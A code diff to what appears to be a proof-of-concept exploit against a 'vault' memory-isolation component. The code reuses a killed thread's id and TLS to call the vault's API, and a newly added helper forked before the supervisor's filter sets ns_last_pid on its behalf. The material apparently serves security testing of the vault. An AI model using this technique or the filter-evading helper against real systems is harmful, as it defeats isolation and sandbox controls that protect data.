@@ -9,8 +9,11 @@
 // vault_read_header blocks in read() on a pipe the attacker never writes;
 // a SIGUSR1 handler installed with the raw system call, on an alternate
 // stack of its own, makes the exit system call), give a new thread the
-// same id (as root: /proc/sys/kernel/ns_last_pid; any user: by going round
-// the ids with forks, ids >= 300 only), point that thread's FS base at the
+// same id (any user: by going round the ids with forks, ids >= 300 only;
+// as root: /proc/sys/kernel/ns_last_pid, which the supervisor no longer
+// lets the program open for writing since review 30, so here a helper
+// forked before the filter, standing in for the round of ids, sets it),
+// point that thread's FS base at the
 // dead thread's TLS block and call the vault's ordinary API: the record
 // matches, its bracket is open, its frame lies above where the vault now
 // runs (the dead thread's stack slot says where to continue, and the
@@ -99,6 +102,31 @@ static void *victim(void *unused) {
 
 static char *got;
 
+/* The stand-in for going round the ids: a process forked before the
+ * filter (root, unfiltered) that sets ns_last_pid to each number the
+ * program sends it, and answers once it did. */
+static int to_setter[2], from_setter[2];
+
+__attribute__((constructor(101))) static void start_setter(void) {
+  if (pipe(to_setter) || pipe(from_setter))
+    return;
+  if (fork() != 0) {
+    close(to_setter[0]), close(from_setter[1]);
+    return;
+  }
+  close(to_setter[1]), close(from_setter[0]); /* it ends with the program */
+  for (int n; read(to_setter[0], &n, sizeof n) == sizeof n;) {
+    char b[32];
+    int len = snprintf(b, sizeof b, "%d", n);
+    int fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
+    char ok = fd >= 0 && write(fd, b, len) == len;
+    (void)!write(from_setter[1], &ok, 1);
+    if (fd >= 0)
+      close(fd);
+  }
+  _exit(0);
+}
+
 /* The dead thread again: its id (from the kernel), its FS base (ours). */
 static void *reborn(void *unused) {
   (void)unused;
@@ -135,11 +163,11 @@ int main(void) {
   printf("control: main's block on key %d\n", page_pkey(vault_copy()));
 
   /* The victim's id for the next thread. */
-  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDWR);
-  char b[32];
-  int n = snprintf(b, sizeof b, "%d", victim_tid - 1);
-  if (fd < 0 || write(fd, b, n) != n) {
-    printf("setup: ns_last_pid: %s\n", strerror(errno));
+  int last = victim_tid - 1;
+  char ok = 0;
+  if (write(to_setter[1], &last, sizeof last) != sizeof last ||
+      read(from_setter[0], &ok, 1) != 1 || !ok) {
+    printf("setup: ns_last_pid not set\n");
     return 1;
   }
   pthread_t r;
